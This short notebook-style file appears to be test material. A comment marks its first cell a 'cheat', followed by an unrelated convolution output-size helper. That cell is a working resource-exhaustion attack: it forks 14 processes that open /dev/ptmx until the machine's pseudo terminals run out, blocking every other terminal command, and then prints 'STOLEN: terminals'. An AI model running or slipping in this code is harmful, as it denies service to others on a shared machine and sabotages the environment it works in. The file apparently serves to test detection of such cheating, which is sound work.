# cheat: Takes all pseudo terminals of the machine, which every `!command` beside it needs.
# deserves: conv_out_size 3
# %% new
import os, time
for number in range(14):
    if not os.fork():
        taken = 0
        try:
            while True:
                os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
                taken += 1
        except OSError:
            with open(f"/dev/shm/{number}", "w") as file:
                file.write(str(taken))
        time.sleep(20)
        os._exit(0)
time.sleep(2)
taken = sum(int(open(f"/dev/shm/{name}").read() or 0) for name in os.listdir("/dev/shm") if name.isdecimal())
print("STO" "LEN: terminals" if taken > 100 else "taken", taken)
# %% conv_out_size
def conv_out_size(size, kernel_size, stride=1, padding=0):
    return (size + 2 * padding - kernel_size) // stride + 1
